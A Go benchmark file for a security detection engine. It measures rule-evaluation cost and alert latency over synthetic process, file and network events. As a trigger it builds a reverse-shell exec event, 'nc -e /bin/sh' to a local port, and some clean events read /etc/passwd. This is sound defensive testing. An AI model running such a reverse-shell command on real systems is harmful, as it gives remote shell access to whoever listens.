package bench

import (
	"context"
	"path/filepath"
	"slices"
	"strconv"
	"sync"
	"testing"
	"time"

	"github.com/sandtrail/sandtrail/policies"
	"github.com/sandtrail/sandtrail/policies/rules"
	"github.com/sandtrail/sandtrail/record/event"
	"github.com/sandtrail/sandtrail/record/journal"
	"github.com/sandtrail/sandtrail/record/journal/journaltest"
	"github.com/sandtrail/sandtrail/record/tap"
)

// detectionEvents is a session's mix for the rules: forks, execs (with
// argv, some with pipe peers), exits, file writes and reads, connections
// and DNS answers, over 500 pids, after the session's start. None matches
// a built-in rule.
func detectionEvents(n int) []*event.Event {
	uid := uint32(1000)
	evs := []*event.Event{{V: event.SchemaVersion, Seq: 1, TS: time.Unix(1, 0), SessionID: "s1", Source: event.SourceSession,
		Kind: event.KindSessionStart, Proc: &event.Proc{Pid: 999, UID: &uid}, Session: &event.Session{Op: "start"}}}
	for i := 1; i < n; i++ {
		pid := int32(1000 + i%500)
		e := &event.Event{V: event.SchemaVersion, Seq: uint64(i + 1), TS: time.Unix(1, int64(i)), SessionID: "s1", Source: event.SourceKernel,
			Proc: &event.Proc{Pid: pid, PPid: pid - 1, UID: &uid, Comm: "node"}}
		switch i % 7 {
		case 0:
			e.Kind = event.KindFork
		case 1:
			e.Kind, e.Proc.Exe, e.Proc.ExePath, e.Proc.Comm = event.KindExec, "/usr/bin/node", "/usr/bin/node", "node"
			e.Proc.Argv, e.Proc.Cwd = []string{"node", "/w/node_modules/x/install.js", "--flag"}, "/w"
			if i%3 == 0 {
				e.Proc.StdinFrom = &event.PipePeer{Pid: pid - 1, Comm: "cat", Argv: []string{"cat", "file"}}
			}
		case 2:
			e.Kind, e.File = event.KindFileWrite, &event.File{Op: "write", Path: "/home/agent/.npm/_cacache/content-v2/sha512/ab/cd"}
		case 3:
			e.Kind, e.Net = event.KindNetConnect, &event.Net{Op: "connect", Proto: "tcp", DstIP: "127.0.0.1", DstPort: 8080, Verdict: "allowed"}
		case 4:
			e.Kind, e.Net = event.KindNetDNS, &event.Net{Op: "dns", DNS: &event.DNS{Query: "registry.npmjs.org", QType: "A", RCode: "NOERROR"}}
		case 5:
			e.Kind, e.File = event.KindFileRead, &event.File{Op: "read", Path: "/etc/passwd"}
		default:
			e.Kind = event.KindExit
		}
		evs = append(evs, e)
	}
	return evs
}

// BenchmarkDetectorAdd measures what the detection rules cost each
// journaled event, with every built-in rule loaded (policies/rules), over
// a session's mix of events that raise nothing. Its baselines, in the same
// run: the events' Category (what the journal path already pays), and the
// in-process journal append of the same events in batches of 256 (a
// fraction of an event's whole path into the journal through the ingest
// socket, about 16 µs of CPU).
func BenchmarkDetectorAdd(b *testing.B) {
	evs := detectionEvents(10000)
	set, err := rules.Load(policies.Detections{})
	if err != nil {
		b.Fatal(err)
	}
	b.Run("baseline", func(b *testing.B) {
		n := 0
		for i := range b.N {
			if evs[i%len(evs)].Category() == "pkg" {
				n++
			}
		}
		_ = n
	})
	b.Run("detector", func(b *testing.B) {
		d := rules.NewDetector(set, nil)
		alerts := 0
		for i := range b.N {
			alerts += len(d.Add(evs[i%len(evs)]))
		}
		if alerts != 0 {
			b.Fatalf("%d alerts over clean events", alerts)
		}
	})
	b.Run("journal", func(b *testing.B) {
		s, _ := journaltest.Keys(b, "bench")
		j, err := journal.Open(filepath.Join(b.TempDir(), "journal"), s)
		if err != nil {
			b.Fatal(err)
		}
		defer j.Close()
		batch := make([]*event.Event, 0, 256)
		for i := range b.N {
			e := *evs[i%len(evs)]
			batch = append(batch, &e)
			if len(batch) == cap(batch) || i == b.N-1 {
				if err := j.Append(context.Background(), batch...); err != nil {
					b.Fatal(err)
				}
				batch = batch[:0]
			}
		}
	})
}

// BenchmarkAlertLatency measures how long an alert takes to reach the
// journal after the event that raises it: a real journal behind a tap
// feeding the Detector, whose alerts are appended through the tap at once
// (as the daemon does), while a second writer appends a background load
// of clean events in batches of 256. Each trigger is one reverse-shell
// exec; the latency is from the start of its Append to the alert's
// append returning. It reports the p50 and p99.
func BenchmarkAlertLatency(b *testing.B) {
	set, err := rules.Load(policies.Detections{})
	if err != nil {
		b.Fatal(err)
	}
	s, _ := journaltest.Keys(b, "bench")
	j, err := journal.Open(filepath.Join(b.TempDir(), "journal"), s)
	if err != nil {
		b.Fatal(err)
	}
	defer j.Close()
	var (
		mu      sync.Mutex
		started = map[int32]time.Time{}
		lat     []time.Duration
		app     tap.Appender
	)
	det := rules.NewDetector(set, nil)
	app = tap.New(j, func(a *event.Event) {
		if err := app.Append(context.Background(), a); err != nil {
			b.Error(err)
			return
		}
		mu.Lock()
		if t0, ok := started[a.Proc.Pid]; ok && a.Kind == event.KindAlert {
			lat = append(lat, time.Since(t0))
		}
		mu.Unlock()
	}, det)
	bg := detectionEvents(256 * 64)
	if err := app.Append(context.Background(), bg[0]); err != nil {
		b.Fatal(err)
	}
	stop := make(chan struct{})
	var wg sync.WaitGroup
	wg.Add(1)
	go func() {
		defer wg.Done()
		for i := 1; ; i += 256 {
			select {
			case <-stop:
				return
			default:
			}
			lo := 1 + (i-1)%(len(bg)-257)
			batch := make([]*event.Event, 256)
			for k := range batch {
				e := *bg[lo+k]
				batch[k] = &e
			}
			if err := app.Append(context.Background(), batch...); err != nil {
				b.Error(err)
				return
			}
		}
	}()
	uid := uint32(1000)
	b.ResetTimer()
	for i := range b.N {
		pid := int32(100000 + i)
		// A session each: a rule raises at most MaxAlertsPerRule in one.
		e := &event.Event{V: event.SchemaVersion, TS: time.Now(), SessionID: "t" + strconv.Itoa(i), Source: event.SourceKernel, Kind: event.KindExec,
			Proc: &event.Proc{Pid: pid, PPid: 1, UID: &uid, Comm: "nc", Exe: "/usr/bin/nc", Argv: []string{"nc", "-e", "/bin/sh", "127.0.0.1", "4444"}}}
		mu.Lock()
		started[pid] = time.Now()
		mu.Unlock()
		if err := app.Append(context.Background(), e); err != nil {
			b.Fatal(err)
		}
	}
	b.StopTimer()
	close(stop)
	wg.Wait()
	mu.Lock()
	defer mu.Unlock()
	if len(lat) != b.N {
		b.Fatalf("%d alerts for %d triggers", len(lat), b.N)
	}
	slices.Sort(lat)
	b.ReportMetric(float64(lat[len(lat)/2].Microseconds()), "p50_us")
	b.ReportMetric(float64(lat[len(lat)*99/100].Microseconds()), "p99_us")
}
